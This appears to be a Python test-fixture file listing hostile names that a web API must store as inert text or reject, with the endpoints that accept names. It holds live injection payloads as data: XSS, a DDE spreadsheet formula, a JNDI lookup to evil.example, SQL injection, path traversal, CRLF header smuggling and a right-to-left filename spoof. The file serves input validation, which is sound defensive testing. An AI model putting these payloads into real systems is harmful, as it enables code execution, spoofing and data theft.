"""B42, B22, B24: names that are code somewhere else."""

from __future__ import annotations

from collections.abc import Mapping

# They are text, and stay it.
NAMES: Mapping[str, str] = {
    "image": "<img src=x onerror=alert(1)>",
    "script": "</script><script>alert(1)</script>",
    "address": "javascript:alert(1)",
    "formula": "=cmd|' /C calc'!A0",
    "plus-formula": "+1+1",
    "at-formula": "@SUM(1)",
    "quotes": "\"'`",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "proto": "__proto__",
    "constructor": "constructor",
    "class": "__class__",
    "format": "{0.__init__}",
    "percent-n": "%n%s%x",
    "jndi": "${jndi:ldap://evil.example/x}",
    "path": "../../etc/passwd",
    "device": "con",
    "option": "-rf",
    "sql": "'; DROP TABLE tasks; --",
    "header": "x; filename=evil.exe",
}
# Refused wherever something is named.
BAD_NAMES: Mapping[str, tuple[str, str]] = {
    "nul": ("422 invalid_name", "a\0b"),
    "newlines": ("422 invalid_name", "a\r\nSet-Cookie: x=y"),
    "escape": ("422 invalid_name", "\x1b[2J"),
    "turned-round": ("422 invalid_name", "\u202egnp.exe"),
    "isolate": ("422 invalid_name", "\u2066x"),
    "line-separator": ("422 invalid_name", "a\u2028b"),
    "zero-width": ("422 invalid_name", "a\u200bb"),
    "joiner": ("422 invalid_name", "a\u2060b"),
    "eight-bit-control": ("422 invalid_name", "a\x9bb"),
    "private": ("422 invalid_name", "\ue000"),
    "unassigned": ("422 invalid_name", "\U000e0001"),
    "drawn-as-nothing": ("422 invalid_name", "la\u3164b"),
    "variation": ("422 invalid_name", "lab\ufe0f"),
    "blank": ("422 invalid_name", " \t "),
    "empty": ("422 invalid_input", ""),
    "too-long": ("422 invalid_input", "x" * 129),
    "a-megabyte": ("413 message_too_large", "x" * (1 << 20)),
}
# Refused where a name is what a command line or a program chooses by, alone or as `account/name`.
MISLEADING_NAMES: Mapping[str, tuple[str, str]] = {
    "id": ("422 invalid_name", "ws_01k5"),
    "another-id": ("422 invalid_name", "TSK_01k5"),
    "address": ("422 invalid_name", "owner/lab"),
    "wide": ("422 invalid_name", "\uff4cab"),
    "ligature": ("422 invalid_name", "\ufb01le"),
}
CHOSEN_BY_NAME = frozenset({"workspace", "new-name", "user"})
# Where something is named: method, address, the field, and what else the body needs.
NAMED: Mapping[str, tuple[str, str, str, Mapping[str, object]]] = {
    "workspace": ("POST", "/api/workspaces", "name", {}),
    "new-name": ("PATCH", "/api/workspaces/<workspace>", "name", {}),
    "user": ("POST", "/api/users", "username", {}),
    "token": ("POST", "/api/tokens", "name", {"scopes": ["tasks:read"]}),
    "program": ("POST", "/api/device/code", "clientName", {}),
    "machine": ("POST", "/api/device/code", "hostname", {}),
}
